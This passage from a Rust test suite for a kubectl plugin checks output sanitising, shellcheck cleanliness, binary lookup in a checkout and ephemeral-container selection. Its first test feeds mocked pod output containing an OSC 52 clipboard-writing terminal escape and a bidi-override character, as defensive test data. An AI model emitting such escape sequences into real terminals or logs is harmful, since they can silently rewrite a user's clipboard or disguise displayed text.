    k.distroless(&format!("threads: 1{OSC52}\n"), 0);
    let out = succeeded(k.run(&["web-0", "--image", IMAGE]));
    nothing_for_a_terminal(&out.stdout, "stdout");
    holds(&out.stdout, "threads: 1\\x1b]52;c;");
    let k = Cluster::new();
    k.distroless("", 0);
    let waiting =
        format!("waiting\tErrImagePull\tpull failed{OSC52}\u{2066}\nrunning\t\nterminated\t\n");
    k.answer("state.1", &waiting, "", 0);
    let out = k.run(&["web-0", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    nothing_for_a_terminal(&out.stderr, "stderr");
    holds(&out.stderr, "ErrImagePull: pull failed\\x1b]52;c;");
    holds(&out.stderr, "\\u{2066}");
}

#[test]
fn scripts_are_shellcheck_clean() {
    let sh = ["scripts/kubectl-tsnap", "tests/plugin/kubectl"];
    let bash = [
        "scripts/image",
        "scripts/release",
        "tests/containers/build-java-target",
    ];
    let check = |shell: &str, files: &[&str]| match Command::new("shellcheck")
        .arg(format!("--shell={shell}"))
        .args(files)
        .current_dir(MANIFEST)
        .output()
    {
        Ok(o) => {
            assert!(
                o.status.success(),
                "shellcheck:\n{}{}",
                String::from_utf8_lossy(&o.stdout),
                String::from_utf8_lossy(&o.stderr)
            );
            true
        }
        Err(e) => util::require(false, &format!("shellcheck is not installed ({e})")),
    };
    if check("sh", &sh) {
        check("bash", &bash);
    }
}

#[test]
fn from_a_checkout_it_takes_the_binaries_of_its_build_tree() {
    // scripts/kubectl-tsnap run where it is, in a checkout: ../target/ARCH-unknown-linux-musl.
    let k = Cluster::new();
    k.with_tar(PROBE_OK).answer("tsnap", "", "", 0);
    let checkout = k.dir.0.join("checkout");
    let release = checkout.join("target/x86_64-unknown-linux-musl/release");
    std::fs::create_dir_all(&release).unwrap();
    std::fs::create_dir_all(checkout.join("scripts")).unwrap();
    std::fs::copy(plugin(), checkout.join("scripts/kubectl-tsnap")).unwrap();
    std::fs::write(release.join("tsnap"), "x86_64").unwrap();
    let mut c = k.command(None, &["web-0"]);
    c.env_remove("TSNAP_BINARIES");
    let mut run = Command::new(checkout.join("scripts/kubectl-tsnap"));
    run.arg("web-0").current_dir(&k.cwd).env_clear();
    for (key, value) in c.get_envs() {
        if let Some(value) = value {
            run.env(key, value);
        }
    }
    let out = succeeded(finish(run.output().unwrap()));
    let calls = k.calls();
    let cp = calls.iter().find(|c| c[0] == "cp").expect("no kubectl cp");
    assert_eq!(
        cp[1],
        format!(
            "{}/scripts/../target/x86_64-unknown-linux-musl/release/tsnap",
            checkout.display()
        ),
        "{}",
        out.stderr
    );
}

#[test]
fn user_and_ephemeral_take_the_ephemeral_way_even_with_tar() {
    for option in [&["--user", "65532"][..], &["--ephemeral"][..]] {
        let k = Cluster::new();
        k.distroless("", 0);
        k.answer("probe", PROBE_OK, "", 0);
        let mut args = vec!["web-0", "--image", IMAGE];
        args.extend_from_slice(option);
        let out = succeeded(k.run(&args));
        let calls = k.calls();
        assert!(
            calls.iter().all(|c| c[0] != "exec"),
            "{option:?}: {calls:?}"
        );
        assert!(
            calls.iter().any(|c| c[0] == "debug"),
            "{option:?}: {calls:?}"
        );
        holds(
            &out.stderr,
            "an ephemeral container is asked for (--ephemeral, --profile or --user): running",
        );
    }
}
